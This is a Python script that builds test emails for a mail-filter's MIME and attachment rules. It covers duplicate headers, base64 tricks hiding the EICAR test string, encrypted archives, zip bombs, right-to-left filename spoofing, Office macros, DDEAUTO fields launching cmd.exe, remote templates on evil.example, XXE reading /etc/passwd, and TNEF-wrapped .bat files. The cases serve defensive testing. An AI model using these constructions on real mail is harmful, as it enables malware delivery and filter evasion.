@@ -1,0 +1,250 @@
+#!/usr/bin/python3
+"""cases_make.py DIR CERTS: messages for MILTER.md's cases about MIME and attachments, DIR/<case>.eml, and DIR/cases.tsv: name, who sends it (staff,
+office, citizen), the rule that decides, findings that must be there. CERTS is what smime_certs.sh made. All content is invented."""
+
+import base64
+import io
+import pathlib
+import struct
+import subprocess
+import sys
+import zipfile
+import zlib
+
+DIR, CERTS = pathlib.Path(sys.argv[1]), pathlib.Path(sys.argv[2])
+CASES = []
+EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-" + b"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
+
+
+def case(name, mail, rule, notes="", who="citizen"):
+    (DIR / (name + ".eml")).write_bytes(mail)
+    CASES.append((name, who, rule, notes))
+
+
+def b64(data):
+    return base64.encodebytes(data).replace(b"\n", b"\r\n")
+
+
+FROM = {"citizen": b"From: dan@y.example\r\n", "staff": b"From: manager@x.example\r\n", "office": b"From: vanthu@x.example\r\n"}
+
+
+def entity(name, data, ctype="application/octet-stream"):
+    quoted = "".join(c if c.isascii() and c.isalnum() or c in ".-_" else "".join("%%%02X" % b for b in c.encode()) for c in name)
+    return (b"Content-Type: %s\r\nContent-Disposition: attachment; filename*=utf-8''%s\r\nContent-Transfer-Encoding: base64\r\n\r\n"
+            % (ctype.encode(), quoted.encode()) + b64(data))
+
+
+def multipart(*parts, extra=b""):
+    return (extra + b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=mix\r\n\r\n" +
+            b"".join(b"--mix\r\n" + p.rstrip(b"\r\n") + b"\r\n" for p in parts) + b"--mix--\r\n")
+
+
+def attached(name, data, ctype="application/octet-stream", who="citizen", extra=b""):
+    return multipart(b"Content-Type: text/plain; charset=utf-8\r\n\r\nK\xc3\xadnh g\xe1\xbb\xadi", entity(name, data, ctype),
+                     extra=FROM[who] + extra)
+
+
+def zipped(*members, method=zipfile.ZIP_DEFLATED):
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", method) as z:
+        for name, data in members:
+            z.writestr(name, data)
+    return out.getvalue()
+
+
+def program():
+    head = bytearray(256)
+    head[0:2] = b"MZ"
+    struct.pack_into("<I", head, 0x3c, 128)
+    head[128:132] = b"PE\0\0"
+    return bytes(head)
+
+
+def cms(content, name, *options):
+    return subprocess.run(["openssl", "cms", "-sign", "-binary", "-outform", "DER", "-md", "sha256", "-signer", str(CERTS / (name + ".pem")),
+                           "-inkey", str(CERTS / "k1.key"), *options], input=content, capture_output=True, check=True).stdout
+
+
+def signed(content, who, extra=b""):
+    key = {"staff": "manager", "office": "vanthu"}[who]
+    return (FROM[who] + extra + b"MIME-Version: 1.0\r\nContent-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; "
+            b"boundary=sig\r\n\r\n--sig\r\n" + content + b"\r\n--sig\r\nContent-Type: application/pkcs7-signature; name=smime.p7s\r\n"
+            b"Content-Transfer-Encoding: base64\r\n\r\n" + b64(cms(content, key)) + b"\r\n--sig--\r\n")
+
+
+# --- 33: who reads what differs
+
+PLAIN = b"Content-Type: text/plain\r\n"
+case("case_33_two_transfer_encodings", FROM["citizen"] + b"Content-Type: application/pdf; name=a.pdf\r\nContent-Transfer-Encoding: base64\r\n"
+     b"Content-Transfer-Encoding: 7bit\r\n\r\n" + b64(b"x"), "M05", "mime_dup_header")
+case("case_33b_two_content_types", FROM["citizen"] + PLAIN + b"Content-Type: text/html\r\n\r\nx", "M05", "mime_dup_header")
+case("case_33c_two_boundaries", FROM["citizen"] + b"Content-Type: multipart/mixed; boundary=a; boundary=b\r\n\r\n--a\r\n\r\nx\r\n--a--\r\n"
+     b"--b\r\n\r\ny\r\n--b--\r\n", "M05", "mime_dup_boundary")
+case("case_33d_in_a_part", multipart(PLAIN + b"Content-Transfer-Encoding: base64\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nx",
+                                     extra=FROM["citizen"]), "M05", "mime_dup_header")
+case("case_33e_two_names_the_worse_counts", FROM["citizen"] + b"Content-Type: application/pdf; name=a.exe\r\n"
+     b"Content-Disposition: attachment; filename=a.pdf\r\n\r\n%PDF-1.4\r\n", "P22", "name_differs")
+
+# --- 34: base64 that two readers decode differently
+
+whole = base64.b64encode(EICAR)
+case("case_34_eicar_behind_early_padding", FROM["citizen"] + b"Content-Type: text/plain; name=a.txt\r\nContent-Transfer-Encoding: base64\r\n\r\nAA==" +
+     whole + b"\r\n", "M14")
+case("case_34b_eicar_with_junk_inside", FROM["citizen"] + b"Content-Type: text/plain; name=a.txt\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
+     whole[:10] + b"=\r\n" + whole[10:] + b"\r\n", "M14")
+case("case_34c_eicar_as_it_is", attached("a.txt", EICAR, "text/plain"), "M13")
+case("case_34d_unknown_encoding", FROM["citizen"] + b"Content-Type: text/plain; name=a.txt\r\nContent-Transfer-Encoding: base64x\r\n\r\n" +
+     whole + b"\r\n", "M14")
+case("case_34e_ordinary_text_speaks_of_it", FROM["citizen"] + PLAIN + b"\r\nThe EICAR-STANDARD-ANTIVIRUS-TEST-FILE is harmless.\r\n", "ok")
+
+# --- 35: what cannot be looked into
+
+
+def locked(data):
+    out = bytearray(data)
+    for magic, at in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
+        out[out.index(magic) + at] |= 1
+    return bytes(out)
+
+
+def seven_encrypted_header():
+    """7zFormat.txt: an encoded header whose one folder is packed by 7zAES."""
+    packed = bytes(range(48))
+    header = (b"\x17\x06\x00\x01\x09\x30\x00\x07\x0b\x01\x00\x01\x24\x06\xf1\x07\x01\x0a\x53\x07" + bytes(8) + b"\x0c\x20\x00\x00")
+    start = struct.pack("<QQI", len(packed), len(header), zlib.crc32(header))
+    return b"7z\xbc\xaf\x27\x1c\0\4" + struct.pack("<I", zlib.crc32(start)) + start + packed + header
+
+
+case("case_35_encrypted_member", attached("a.zip", locked(zipped(("thu.txt", "x")))), "P23")
+case("case_35b_encrypted_header", attached("a.7z", seven_encrypted_header()), "P23")
+case("case_35c_encrypted_inside", attached("a.zip", zipped(("b.zip", locked(zipped(("thu.txt", "x")))))), "P23")
+
+# --- 36: bombs
+
+bomb = zipped(("x.txt", b"\0" * 1000))
+for _ in range(12):
+    bomb = zipped(("a.zip", bomb))
+case("case_36_nested_twelve_deep", attached("a.zip", bomb), "M06")
+layer = zipped(*[("%02d.txt" % n, b"\0" * (24 << 20)) for n in range(2)])
+for _ in range(3):
+    layer = zipped(*[("%02d.zip" % n, layer) for n in range(8)], method=zipfile.ZIP_STORED)
+case("case_36b_42_style", attached("42.zip", layer), "M06")
+case("case_36c_many_members", attached("a.zip", zipped(*[("%d.txt" % n, b"") for n in range(2500)])), "M06")
+
+# --- 37: names and types
+
+case("case_37_rtlo", attached("offer\u202efdp.exe", program()), "P24")
+case("case_37b_double_extension", attached("a.pdf.exe", program()), "P22")
+case("case_37c_program_named_pdf", attached("x.pdf", program(), "application/pdf"), "P24")
+case("case_37d_dotted_version_is_nothing", attached("bao-cao.v1.2.txt", b"Kinh gui\r\n", "text/plain"), "ok")
+
+# --- 38: office documents
+
+TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">%s</Types>'
+W = '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>%s</w:body></w:document>'
+REL = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
+       'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="%s" TargetMode="External"/></Relationships>')
+
+
+def docx(body="", *more, types=""):
+    return zipped(("[Content_Types].xml", TYPES % types), ("word/document.xml", W % body), *more)
+
+
+def xlsx(*more, types=""):
+    return zipped(("[Content_Types].xml", TYPES % types), ("xl/workbook.xml", "<workbook/>"), *more)
+
+
+def field(*texts):
+    return ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' + "".join("<w:r><w:instrText>%s</w:instrText></w:r>" % t for t in texts) +
+            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+
+
+case("case_38_vba", attached("a.docx", docx("", ("word/vbaProject.bin", b"x"))), "P22")
+case("case_38b_vba_under_another_name", attached("a.docx", docx("", ("word/data.bin", b"x"), types='<Override PartName="/word/data.bin" '
+     'ContentType="application/vnd.ms-office.vbaProject"/>')), "P22")
+case("case_38c_xlm_macrosheet", attached("a.xlsx", xlsx(("xl/macrosheets/sheet1.xml", "<x/>"))), "P22")
+case("case_38d_xlm_under_another_name", attached("a.xlsx", xlsx(("xl/worksheets/sheet9.xml", "<x/>"), types='<Override PartName='
+     '"/xl/worksheets/sheet9.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>')), "P22")
+case("case_38e_dde_field", attached("a.docx", docx('<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; "/></w:p>')),
+     "P22", "office_dde")
+case("case_38f_dde_field_in_pieces", attached("a.docx", docx(field(" DD", "E", "AUTO cmd"))), "P22", "office_dde")
+case("case_38g_dde_by_quote", attached("a.docx", docx(field(" QUOTE 68 68 69 65 85 84 79 32 99 109 100"))), "P22", "office_dde")
+case("case_38s_dde_around_another_field", attached("a.docx", docx(field(" DDE", '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>'
+     '<w:instrText> SET c "x" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>', "AUTO cmd"))), "P22", "office_dde")
+case("case_38h_dde_link_of_a_sheet", attached("a.xlsx", xlsx(("xl/externalLinks/externalLink1.xml", '<externalLink xmlns="http://schemas.openxmlformats.org/'
+     'spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'))), "P22", "office_dde")
+case("case_38i_external_template", attached("a.docx", docx("", ("word/_rels/settings.xml.rels", REL % ("attachedTemplate", "https://evil.example/t.dotm")))),
+     "M15", "office_external")
+case("case_38j_external_object", attached("a.docx", docx("", ("word/_rels/document.xml.rels", REL % ("oleObject", "mhtml:http://evil.example/x!x")))),
+     "M15", "office_external")
+case("case_38k_template_on_a_share", attached("a.docx", docx("", ("word/_rels/settings.xml.rels", REL % ("attachedTemplate", "file://host/share/t.dotm")))),
+     "M15", "office_external")
+case("case_38l_local_template_is_ordinary", attached("a.docx", docx("<w:p/>", ("word/_rels/settings.xml.rels",
+     REL % ("attachedTemplate", "file:///C:\\Users\\an\\Templates\\bao-cao.dotx")))), "ok")
+case("case_38m_hyperlink_is_ordinary", attached("a.docx", docx(field(' HYPERLINK "http://x.example/dde" '), ("word/_rels/document.xml.rels",
+     REL % ("hyperlink", "https://x.example/")))), "ok")
+case("case_38n_page_numbers_are_ordinary", attached("a.docx", docx(field(" PAGE ", "\\* MERGEFORMAT") + field(' DATE \\@ "dd/MM/yyyy" '))), "ok")
+
+
+def ole(*names):
+    """The directory sector of an OLE2 file ([MS-CFB] 2.6)."""
+    head = bytearray(512)
+    head[:8] = bytes.fromhex("d0cf11e0a1b11ae1")
+    struct.pack_into("<HHHHH", head, 0x18, 0x3e, 3, 0xfffe, 9, 6)
+    struct.pack_into("<I", head, 0x30, 0)
+    out = b""
+    for n, name in enumerate(("Root Entry",) + names):
+        u = name.encode("utf-16-le") + b"\0\0"
+        out += u.ljust(64, b"\0") + struct.pack("<HBB", len(u), 5 if n == 0 else 2, 1) + bytes(60)
+    return bytes(head) + out.ljust(512, b"\0") + bytes(512)
+
+
+case("case_38o_encrypted_docx", attached("a.docx", ole("EncryptionInfo", "EncryptedPackage")), "P23")
+case("case_38p_vba_in_ole2", attached("a.doc", ole("WordDocument", "_VBA_PROJECT")), "P22")
+case("case_38q_entities_are_not_expanded", attached("a.docx", zipped(("[Content_Types].xml", TYPES % ""), ("word/document.xml",
+     '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b "' + "y" * 1000 + '"><!ENTITY c "' + "&b;" * 1000 + '"><!ENTITY d "' +
+     "&c;" * 1000 + '">]><w:document xmlns:w="w"><w:p><w:t>&a;&d;</w:t></w:p></w:document>'))), "ok")
+case("case_38r_odf_basic", attached("a.odt", zipped(("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", "<x/>"),
+                                                    ("Basic/Standard/a.xml", "<x/>"))), "P22")
+
+# --- 40: fragments, TNEF, depth, and a signature that whitelists nothing
+
+case("case_40_message_partial", FROM["citizen"] + b"Content-Type: message/partial; id=a; number=1; total=2\r\n\r\nx", "P22")
+case("case_40b_external_body", FROM["citizen"] + b"Content-Type: message/external-body; access-type=url; URL=\"http://y.example/\"\r\n\r\n", "P22")
+
+
+def tnef(*attributes):
+    return struct.pack("<IH", 0x223e9f78, 1) + b"".join(
+        struct.pack("<BHHI", level, att, kind, len(v)) + v + struct.pack("<H", sum(v) & 0xffff) for level, att, kind, v in attributes)
+
+
+def props(*values):
+    out = struct.pack("<I", len(values))
+    for kind, pid, v in values:
+        out += struct.pack("<HHII", kind, pid, 1, len(v)) + v + bytes(-len(v) % 4)
+    return out
+
+
+REND = (2, 0x9002, 6, bytes(14))
+case("case_40c_winmail_with_bat", attached("winmail.dat", tnef((1, 0x9006, 8, b"\0\0\1\0"), REND, (2, 0x8010, 1, b"run.bat\0"),
+     (2, 0x800f, 6, b"@echo off\r\n")), "application/ms-tnef"), "P22")
+case("case_40d_winmail_long_name_only", attached("winmail.dat", tnef(REND, (2, 0x8010, 1, b"a.txt\0"), (2, 0x800f, 6, b"x"), (2, 0x9005, 6,
+     props((0x1f, 0x3707, "chạy.bat\0".encode("utf-16-le"))))), "application/ms-tnef"), "P22")
+case("case_40e_winmail_program_as_property", attached("winmail.dat", tnef(REND, (2, 0x9005, 6, props((0x1e, 0x3707, b"a.pdf\0"),
+     (0x102, 0x3701, program())))), "application/ms-tnef"), "P24")
+case("case_40f_winmail_in_winmail", attached("winmail.dat", tnef(REND, (2, 0x8010, 1, b"w.dat\0"), (2, 0x800f, 6, tnef(REND,
+     (2, 0x8010, 1, b"x.bat\0"), (2, 0x800f, 6, b"x")))), "application/ms-tnef"), "P22")
+case("case_40g_winmail_with_a_text_is_ordinary", attached("winmail.dat", tnef((1, 0x800c, 2, "Kính gửi".encode()), REND,
+     (2, 0x8010, 1, b"a.txt\0"), (2, 0x800f, 6, b"x")), "application/ms-tnef"), "ok")
+deep = b"From: a@y.example\r\nSubject: x\r\n\r\nx\r\n"
+for _ in range(50):
+    deep = b"From: a@y.example\r\nContent-Type: message/rfc822\r\n\r\n" + deep
+case("case_40h_rfc822_fifty_deep", deep, "M05", "mime_too_deep")
+deep = b"From: a@y.example\r\nSubject: x\r\n\r\nx\r\n"
+for _ in range(20):
+    deep = b"From: a@y.example\r\nContent-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n" + b64(deep)
+case("case_40i_rfc822_in_base64_twenty_deep", deep, "M05", "mime_too_deep")
+case("case_40j_signed_and_malware", signed(entity("a.txt", EICAR, "text/plain"), "staff"), "M13", who="staff")
+case("case_40k_signed_and_a_program", signed(entity("a.exe", program()), "staff"), "P22", who="staff")
+
+(DIR / "cases.tsv").write_text("".join("\t".join(c) + "\n" for c in CASES))
